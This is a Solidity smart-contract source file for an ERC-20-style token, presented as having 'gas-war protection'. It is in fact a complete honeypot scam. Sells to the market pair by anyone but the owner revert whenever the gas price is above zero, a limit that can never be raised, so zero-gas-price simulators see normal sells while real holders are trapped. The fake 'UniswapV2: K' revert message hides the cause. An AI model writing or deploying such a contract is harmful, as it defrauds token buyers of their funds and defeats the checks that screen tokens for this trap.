// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// "Gas-war protection": a sell may not pay more than `maxSellGasPrice`, which starts at 0
/// and is never raised. Simulators that call with gas price 0 see normal sells; every real
/// wallet pays a base fee, so every real sell reverts.
contract FlashGuardToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public market;
    uint256 public maxSellGasPrice;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        owner = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function setMarket(address pair) external {
        require(msg.sender == owner, "not owner");
        market = pair;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) private {
        if (to == market && from != owner && tx.gasprice > maxSellGasPrice) {
            revert("UniswapV2: K");
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
